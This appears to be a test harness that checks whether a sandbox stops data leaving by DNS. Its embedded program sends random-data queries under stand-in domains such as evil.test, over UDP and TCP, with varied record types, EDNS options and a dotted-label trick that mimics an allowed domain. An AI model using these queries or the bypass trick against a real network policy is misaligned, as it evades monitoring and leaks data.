"""What a sandbox sends that would carry data out by DNS: run inside one, it says on its standard output how it fared."""

from typing import Final

PROGRAM: Final = r"""
import collections, json, os, random, socket, struct, sys
resolver, elsewhere, many = sys.argv[1], sys.argv[2].split(","), int(sys.argv[3])
chosen = random.Random(7)
TYPES = {"A": 1, "AAAA": 28, "TXT": 16, "NULL": 10, "CNAME": 5, "MX": 15, "ANY": 255, "HTTPS": 65}
SUFFIXES = ("evil.test", "good.test", "xgood.test", "api.good.test.evil.test", "good.test.evil", "test", "a.b.c.evil.test")
def data():
    text = os.urandom(chosen.randrange(1, 31)).hex()
    return "".join(chosen.choice((letter, letter.upper())) for letter in text)
def labels():
    parts = [data().encode() for _ in range(chosen.randrange(1, 3))] + [label.encode() for label in chosen.choice(SUFFIXES).split(".")]
    if parts[-2:] == [b"good", b"test"] and len(parts) > 2:
        # Would be allowed: as one label that looks like several, it is not.
        parts = [b".".join(parts[:-1])[:63], b"test"]
    return b"".join(bytes((len(part),)) + part for part in parts) + b"\0"
def query():
    edns = chosen.randrange(3)
    wire = struct.pack("!6H", chosen.randrange(65536), 0x0100, 1, 0, 0, 1 if edns else 0) + labels()
    wire += struct.pack("!HH", chosen.choice(list(TYPES.values())), 1)
    if edns:
        option = struct.pack("!HH", chosen.choice((3, 8, 10, 12, 65001)), 16) + os.urandom(16)
        wire += b"\0" + struct.pack("!HHIH", 41, 1232, 0x8000 if edns == 2 else 0, len(option)) + option
    return wire
told = collections.Counter()
def read(answer):
    told["answers"] += 1
    told[f"rcode {answer[3] & 15}"] += 1
    if answer[6:8] != b"\0\0":
        told["records"] += 1
        told["sinkhole"] += b"\xc0\x0c\0\1\0\1\0\0\0\5\0\4\xc0\0\0\x08" in answer
def over_udp(where, count):
    sock = socket.socket(socket.AF_INET6 if ":" in where else socket.AF_INET, socket.SOCK_DGRAM)
    sock.settimeout(30)
    sock.connect((where, 53))
    for _ in range(count):
        try:
            sock.send(query())
            read(sock.recv(4096))
        except OSError as error:
            told[type(error).__name__] += 1
def over_tcp(where, count, each):
    for _ in range(0, count, each):
        try:
            with socket.create_connection((where, 53), 30) as sock:
                stream = sock.makefile("rb")
                for _ in range(each):
                    wire = query()
                    sock.sendall(struct.pack("!H", len(wire)) + wire)
                    head = stream.read(2)
                    if len(head) < 2:
                        raise EOFError
                    read(stream.read(struct.unpack("!H", head)[0]))
        except (OSError, EOFError) as error:
            told[type(error).__name__] += 1
over_udp(resolver, many * 70 // 100)
over_tcp(resolver, many * 17 // 100, 100)
for where in elsewhere:
    over_udp(where, many * 12 // 100 // len(elsewhere))
    over_tcp(where, many // 100 // len(elsewhere), 1)
print(json.dumps(told))
"""
